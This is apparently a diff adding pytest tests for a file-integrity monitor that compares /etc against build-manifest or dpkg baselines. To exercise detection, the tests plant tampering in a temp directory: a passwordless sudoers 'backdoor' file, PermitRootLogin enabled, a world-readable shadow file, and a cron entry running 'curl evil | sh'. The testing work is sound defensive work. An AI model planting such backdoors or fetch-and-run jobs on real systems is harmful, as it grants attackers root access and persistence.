@@ -1,0 +1,113 @@
+"""File integrity (cerulean.agent.integrity): scans, baselines from the build manifest,
+and every kind of change."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+from pathlib import Path
+
+import pytest
+
+from cerulean.agent import integrity
+from cerulean.build.manifest import manifest_entries
+from cerulean.build.system import export_tree
+from cerulean.build.tree import Tree
+
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="chown needs root")
+
+
+def shipped(root: Path) -> Tree:
+    """What an image ships below /etc, written to *root* the way a build writes it."""
+    tree = Tree()
+    for d in ("etc", "etc/ssh", "etc/sudoers.d", "usr", "usr/bin"):
+        tree.add_dir(d)
+    tree.add_file("etc/hostname", b"cerulean\n", package="base-files")
+    tree.add_file("etc/ssh/sshd_config", b"PermitRootLogin no\n", package="openssh-server")
+    tree.add_file("etc/shadow", b"root:*:20000:0:99999:7:::\n", mode=0o640, gid=42)
+    tree.add_file("etc/sudoers.d/README", b"see sudoers(5)\n", mode=0o440, package="sudo")
+    tree.add_symlink("etc/localtime", "/usr/share/zoneinfo/Etc/UTC", package="tzdata")
+    tree.add_file("usr/bin/sudo", b"\x7fELF sudo", mode=0o4755, package="sudo")
+    root.mkdir(exist_ok=True)
+    export_tree(tree, root)
+    return tree
+
+
+@needs_root
+def test_a_fresh_image_matches_its_build_manifest(tmp_path: Path) -> None:
+    tree = shipped(tmp_path / "host")
+    baseline = integrity.from_manifest(manifest_entries(tree), under=["/etc"])
+    assert "/usr/bin/sudo" not in baseline and baseline["/etc/shadow"].mode == 0o640
+    now = integrity.scan(tmp_path / "host", ["/etc"])
+    assert set(now) == set(baseline)
+    assert integrity.compare(baseline, now) == []
+
+
+@needs_root
+def test_every_kind_of_change_is_reported_with_its_package(tmp_path: Path) -> None:
+    host = tmp_path / "host"
+    tree = shipped(host)
+    baseline = integrity.from_manifest(manifest_entries(tree), under=["/etc"])
+    (host / "etc/ssh/sshd_config").write_bytes(b"PermitRootLogin yes\n")
+    os.chmod(host / "etc/shadow", 0o644)
+    os.chown(host / "etc/sudoers.d/README", 1000, 0)
+    (host / "etc/localtime").unlink()
+    (host / "etc/localtime").symlink_to("/usr/share/zoneinfo/Europe/Paris")
+    (host / "etc/hostname").unlink()
+    (host / "etc/hostname").mkdir()
+    (host / "etc/sudoers.d/backdoor").write_text("ops ALL=(ALL) NOPASSWD: ALL\n")
+    changes = {c.path: c for c in integrity.compare(baseline, integrity.scan(host, ["/etc"]))}
+    assert {p: c.what for p, c in changes.items()} == {
+        "/etc/ssh/sshd_config": ("content",),
+        "/etc/shadow": ("mode",),
+        "/etc/sudoers.d/README": ("owner",),
+        "/etc/localtime": ("target",),
+        "/etc/hostname": ("type", "mode"),
+        "/etc/sudoers.d/backdoor": ("added",),
+    }
+    sshd = changes["/etc/ssh/sshd_config"]
+    assert sshd.package == "openssh-server"
+    assert sshd.old is not None and sshd.new is not None
+    assert sshd.old.sha256 == hashlib.sha256(b"PermitRootLogin no\n").hexdigest()
+    assert sshd.new.sha256 == hashlib.sha256(b"PermitRootLogin yes\n").hexdigest()
+    doc = changes["/etc/sudoers.d/README"].to_json()
+    assert doc["old"]["uid"] == 0 and doc["new"]["uid"] == 1000 and doc["package"] == "sudo"
+    assert changes["/etc/sudoers.d/backdoor"].to_json()["old"] is None
+    (host / "etc/ssh/sshd_config").unlink()
+    gone = integrity.compare(baseline, integrity.scan(host, ["/etc"]))
+    assert any(c.path == "/etc/ssh/sshd_config" and c.what == ("removed",) for c in gone)
+
+
+def test_scans_never_follow_links_or_leave_their_tree(tmp_path: Path) -> None:
+    host = tmp_path / "host"
+    (host / "etc").mkdir(parents=True)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret").write_text("not part of /etc")
+    (host / "etc/link-to-dir").symlink_to(outside)
+    (host / "etc/link-to-file").symlink_to(outside / "secret")
+    (host / "etc/cache").mkdir()
+    (host / "etc/cache/big").write_text("skip me")
+    now = integrity.scan(host, ["/etc", "/missing"], exclude=["/etc/cache"])
+    assert set(now) == {"/etc", "/etc/link-to-dir", "/etc/link-to-file"}
+    assert now["/etc/link-to-dir"].kind == "symlink"
+    assert now["/etc/link-to-dir"].target == str(outside)
+
+
+def test_first_scan_baseline_with_dpkg_owners(tmp_path: Path) -> None:
+    """On a server that is not a Cerulean image: the first scan is the baseline, and the
+    owning packages come from dpkg's file lists."""
+    host = tmp_path / "host"
+    (host / "etc/cron.d").mkdir(parents=True)
+    (host / "etc/cron.d/e2scrub_all").write_text("30 3 * * 0 root e2scrub_all\n")
+    info = host / "var/lib/dpkg/info"
+    info.mkdir(parents=True)
+    (info / "e2fsprogs.list").write_text("/.\n/etc\n/etc/cron.d\n/etc/cron.d/e2scrub_all\n")
+    (info / "libc6:amd64.list").write_text("/.\n/etc\n/etc/ld.so.conf.d\n")
+    owners = integrity.dpkg_owners(host)
+    assert owners["/etc/cron.d/e2scrub_all"] == "e2fsprogs" and owners["/etc"] == "e2fsprogs"
+    assert owners["/etc/ld.so.conf.d"] == "libc6"
+    first = integrity.scan(host, ["/etc"], packages=owners)
+    (host / "etc/cron.d/e2scrub_all").write_text("* * * * * root curl evil | sh\n")
+    (change,) = integrity.compare(first, integrity.scan(host, ["/etc"], packages=owners))
+    assert change.path == "/etc/cron.d/e2scrub_all" and change.package == "e2fsprogs"
